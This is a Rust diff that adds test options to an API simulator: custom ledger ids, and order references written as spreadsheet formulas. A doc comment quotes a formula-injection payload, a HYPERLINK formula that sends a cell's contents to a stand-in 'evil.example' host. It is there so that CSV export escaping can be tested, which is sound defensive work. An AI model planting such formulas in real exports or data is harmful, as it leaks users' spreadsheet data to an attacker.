@@ -86,6 +86,14 @@ pub struct SimulatorConfig {
     pub token_ttl: Duration,
     /// Send `"expires_in": "900"` (a string, as the spec types it) instead of a number.
     pub expires_in_as_string: bool,
+    /// Ids for the first ledgers instead of the numbered ones (the API's ids are strings:
+    /// `acme.1` and `acme_1` are two ledgers).
+    pub ledger_ids: Vec<String>,
+    /// Every fifth order reference is a spreadsheet formula
+    /// (`=HYPERLINK("https://evil.example/?"&A1,"<order>")`): valid text for the API, and
+    /// what a CSV export must not hand to a spreadsheet as it is (`simulate
+    /// --formula-references`).
+    pub formula_references: bool,
 }
 
 impl Default for SimulatorConfig {
@@ -100,6 +108,8 @@ impl Default for SimulatorConfig {
             ledger_page_size: 5,
             token_ttl: Duration::from_secs(900),
             expires_in_as_string: false,
+            ledger_ids: Vec::new(),
+            formula_references: false,
         }
     }
 }
@@ -126,8 +136,12 @@ impl Simulator {
     pub fn new(config: SimulatorConfig) -> Arc<Simulator> {
         let books = (0..config.ledgers)
             .map(|i| {
-                let mut book =
-                    LedgerBook::new(LedgerProfile::generate(config.seed, i), config.start_date);
+                let mut profile = LedgerProfile::generate(config.seed, i);
+                if let Some(id) = config.ledger_ids.get(i) {
+                    profile.ledger_id = id.clone();
+                }
+                profile.formula_references = config.formula_references;
+                let mut book = LedgerBook::new(profile, config.start_date);
                 book.grow(config.seed, config.days, config.captures_per_day);
                 book
             })
